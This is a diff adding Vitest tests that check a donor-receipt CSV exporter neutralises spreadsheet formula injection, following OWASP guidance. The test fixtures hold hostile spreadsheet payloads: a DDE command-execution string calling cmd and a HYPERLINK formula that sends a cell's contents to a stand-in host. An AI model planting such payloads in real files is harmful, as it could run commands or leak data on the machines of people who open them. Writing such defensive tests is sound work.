@@ -1,6 +1,6 @@
 import papaparse from "papaparse";
 import { describe, expect, it } from "vitest";
-import { toCsv } from "../../../src/admin/crud/csvExport";
+import { neutraliseFormulae, toCsv } from "../../../src/admin/crud/csvExport";
 import { receiptRequestsResource } from "../../../src/admin/resources/receiptRequests";
 import type { ExportDeclaration } from "../../../src/admin/resources/types";
 import type { ReceiptRequest } from "../../../src/lib/database.types";
@@ -62,5 +62,53 @@ describe("CSV export in Form 10BD's columns", () => {
   it("never lets a visitor's text run as a spreadsheet formula", () => {
     const rows = papaparse.parse<string[]>(toCsv(form10bd, [request({ donor_name: "=HYPERLINK(1)" })]).trim()).data;
     expect(rows[1][7]).toBe("'=HYPERLINK(1)");
+  });
+
+  // OWASP, "CSV Injection": a cell that begins with = + - @ a tab or a carriage return is a formula
+  // to a spreadsheet. An address keeps its line breaks, so every line of it is checked.
+  const cellsOf = (donor: Partial<ReceiptRequest>) =>
+    papaparse.parse<string[]>(toCsv(form10bd, [request(donor)]).trim()).data[1];
+
+  it.each([
+    ["=", '=HYPERLINK("https://x?d="&D2,"Open")'],
+    ["+", "+91 98765 43210"],
+    ["-", "-2+3"],
+    ["@", "@SUM(1+1)"],
+    ["a tab", "\t=cmd|' /C calc'!A0"],
+    ["a carriage return", "\rcmd|' /C calc'!A0"],
+  ])("prefixes ' to a cell that begins with %s, and keeps the rest of it", (_what, text) => {
+    expect(cellsOf({ donor_name: text })[7]).toBe(`'${text}`);
+  });
+
+  it.each([
+    ["=", "=cmd|' /C calc'!A0"],
+    ["+", "+SUM(1+1)"],
+    ["-", "-2+3"],
+    ["@", "@SUM(1+1)"],
+    ["a tab", "\t=1+1"],
+    ["a carriage return", "\r1+1"],
+  ])("prefixes ' to a later line of an address that begins with %s", (_what, line) => {
+    const address = `12 Civil Lines\n${line}\nPrayagraj`;
+    expect(cellsOf({ address })[8]).toBe(`12 Civil Lines\n'${line}\nPrayagraj`);
+  });
+
+  it("neutralises the first line and the later ones of one address, whatever the line break", () => {
+    const address = '=HYPERLINK("https://x?d="&D2,"Open")\r\n-2+3\r@SUM(1+1)\n12 Civil Lines';
+    expect(cellsOf({ address })[8]).toBe(
+      '\'=HYPERLINK("https://x?d="&D2,"Open")\r\n\'-2+3\r\'@SUM(1+1)\n12 Civil Lines',
+    );
+    expect(neutraliseFormulae("\r=1")).toBe("'\r'=1");
+  });
+
+  it("leaves text without a formula character at a line's start as it was, unquoted", () => {
+    const csv = toCsv(form10bd, [request({ donor_name: "Asha-Gupta", address: "12 Civil Lines\nNear = sign" })]);
+    expect(csv).toContain(",Asha-Gupta,");
+    expect(cellsOf({ address: "12 Civil Lines\nNear = sign" })[8]).toBe("12 Civil Lines\nNear = sign");
+    expect(neutraliseFormulae("2500.50")).toBe("2500.50");
+  });
+
+  it("quotes a neutralised cell, as OWASP advises", () => {
+    const line = toCsv(form10bd, [request({ donor_name: "@SUM(1+1)" })]).split("\r\n")[1];
+    expect(line).toContain(`,"'@SUM(1+1)",`);
   });
 });
